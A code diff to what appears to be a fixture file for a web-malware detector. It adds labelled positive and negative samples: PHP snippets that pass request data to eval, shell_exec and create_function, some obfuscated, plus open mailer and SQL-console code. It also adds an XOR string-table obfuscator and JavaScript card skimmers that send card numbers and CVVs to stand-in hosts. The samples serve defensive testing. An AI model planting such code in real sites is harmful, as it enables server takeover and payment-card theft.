@@ -9,6 +9,14 @@ export interface Examples {
   neg: string[];
 }
 
+/** A string table hidden the way a common JavaScript obfuscator hides it: joined, XORed with a repeating key, %-encoded, decoded by a loop given the key. */
+function xorTable(words: string[], key: string): string {
+  const plain = words.join('~|.');
+  let xored = '';
+  for (let i = 0; i < plain.length; i++) xored += String.fromCharCode(plain.charCodeAt(i) ^ key.charCodeAt(i % key.length));
+  return `var S={t:function(){return{d:function(k){var o='',e=decodeURIComponent("${encodeURIComponent(xored)}");for(var i=0,j=0;i<e.length;i++,j++){if(j===k.length){j=0;}o+=String.fromCharCode(e.charCodeAt(i)^k.charCodeAt(j));}o=o.split('~|.');return function(n){return o[n];};}('${key}')};}()};`;
+}
+
 const B64 = Buffer.from('<?php echo "x"; '.repeat(40)).toString('base64');
 export const EXAMPLES: Record<string, Examples> = {
   // shells
@@ -51,6 +59,36 @@ export const EXAMPLES: Record<string, Examples> = {
     lang: 'php',
     pos: [`<?php echo php_uname(); echo get_current_user(); echo ini_get('disable_functions');\nif (isset($_POST['c'])) { $out = passthru($cmd); }`],
     neg: [`<?php echo php_uname(); echo ini_get('disable_functions'); echo get_current_user(); $x = $_GET['p'];`],
+  },
+  'php-request-flow-to-sink': {
+    lang: 'php',
+    pos: [
+      // the request read through a name the file builds, handed to a command two assignments on
+      `<?php $k = '_' . strtoupper('post'); $in = \${$k}['q']; $cmd = $in; echo shell_exec($cmd);`,
+      // create_function given request data through a helper's return value
+      `<?php function arg() { return $_COOKIE['z']; } $f = create_function('', arg()); $f();`,
+      // a dropper of a few lines: the request's value two calls away from eval
+      `<?php\nfunction payload() {\n  $p = $_COOKIE['t'];\n  return base64_decode($p);\n}\neval(payload());`,
+      // the function's name and its code built by str_replace (no literal of request data or of a decoder), the code run by a function made from it
+      `<?php $m = str_replace('~', '', 'cr~eate_f~unction'); $g = $m('', str_replace('~', '', 'ev~al($_P~OST["k"]);')); $g();`,
+    ],
+    neg: [
+      `<?php $k = '_' . strtoupper('post'); $id = (int) \${$k}['id']; echo shell_exec('uptime');`,
+      `<?php function arg() { return 'return 1;'; } $name = $_GET['n']; $f = create_function('', arg()); echo htmlspecialchars($name);`,
+      `<?php\nfunction payload() {\n  $p = (int) $_COOKIE['t'];\n  return 'return ' . $p . ';';\n}\n$v = eval(payload());`,
+      // a method named like a sink, declared and called on an object, is neither
+      `<?php class Ssh { public function exec($command) { return $this->channel->send($command); } } $s = new Ssh(); $s->exec($_GET['c']);`,
+    ],
+  },
+  'php-request-mailer': {
+    lang: 'php',
+    pos: [`<?php $to = $_POST['to']; $body = $_POST['body']; foreach (explode(',', $to) as $r) {} mail($to, 'hi', $body);`],
+    neg: [`<?php $body = $_POST['message']; mail('owner@example.org', 'Contact form', strip_tags($body));`],
+  },
+  'php-request-sql-console': {
+    lang: 'php',
+    pos: [`<?php $link = mysqli_connect('localhost', 'u', 'p'); $q = $_POST['sql']; $r = mysqli_query($link, $q);`],
+    neg: [`<?php $link = mysqli_connect('localhost', 'u', 'p'); $id = intval($_GET['id']); $r = mysqli_query($link, 'SELECT * FROM t WHERE id = ' . $id);`],
   },
   'php-request-through-wrapper': {
     lang: 'php',
@@ -166,8 +204,22 @@ export const EXAMPLES: Record<string, Examples> = {
   },
   'js-obfuscated-payment-skimmer': {
     lang: 'js',
-    pos: [`var _0x1=["\\x6f\\x6e\\x65\\x70\\x61\\x67\\x65","\\x63\\x63\\x5f\\x6e\\x75\\x6d\\x62\\x65\\x72","\\x58\\x4d\\x4c\\x48\\x74\\x74\\x70\\x52\\x65\\x71\\x75\\x65\\x73\\x74","\\x69\\x6e\\x70\\x75\\x74"];`],
-    neg: [`var s="\\u00e9\\u00e8\\u00ea\\u00eb";`],
+    pos: [
+      // a string table XORed with a short key, decoded by a loop right after it (the key its argument)
+      xorTable(['onepage', 'payment[cc_number]', 'XMLHttpRequest', 'send', 'value', 'input'], 'k3Y'),
+      `var _0x1=["\\x6f\\x6e\\x65\\x70\\x61\\x67\\x65","\\x63\\x63\\x5f\\x6e\\x75\\x6d\\x62\\x65\\x72","\\x58\\x4d\\x4c\\x48\\x74\\x74\\x70\\x52\\x65\\x71\\x75\\x65\\x73\\x74","\\x69\\x6e\\x70\\x75\\x74"];`],
+    neg: [`var s="\\u00e9\\u00e8\\u00ea\\u00eb";`, xorTable(['menu', 'open', 'close', 'slide', 'width'], 'k3Y')],
+  },
+  'js-typed-fields-sent-away': {
+    lang: 'js',
+    pos: [
+      `var sent = 0;\nsetInterval(function () {\n  var f = document.querySelector('#co-payment-form');\n  if (!f || sent) return;\n  var n = f.querySelector('[name="payment[cc_number]"]').value, c = f.querySelector('[name="payment[cc_cid]"]').value;\n  if (n.length == 16 && c.length == 3) {\n    sent = 1;\n    var x = new XMLHttpRequest();\n    x.open('POST', 'https://cdn-metrics.invalid/c.php');\n    x.send('n=' + n + '&c=' + c);\n  }\n}, 500);`,
+      `if (/checkout/.test(location.pathname)) {\n  document.addEventListener('change', function () {\n    var d = {};\n    document.querySelectorAll('input, select').forEach(function (i) { d[i.name] = i.value; });\n    fetch('//static-img.invalid/p', { method: 'POST', body: btoa(JSON.stringify(d)) });\n  });\n}`,
+    ],
+    neg: [
+      `document.querySelector('#checkout-form').addEventListener('submit', function (e) {\n  var card = document.getElementById('card-number').value, cvv = document.getElementById('cvv').value;\n  fetch('/checkout/payment', { method: 'POST', body: JSON.stringify({ card: card, cvv: cvv }) });\n});`,
+      `var s = document.createElement('script');\ns.src = 'https://js.stripe.com/v3/';\ndocument.head.appendChild(s);\nfunction pay() { return stripe.createToken(card).then(function (r) { return fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: encodeURIComponent(document.getElementById('cardholder').value) }); }); }`,
+    ],
   },
   'js-fake-payment-form': {
     lang: 'js',
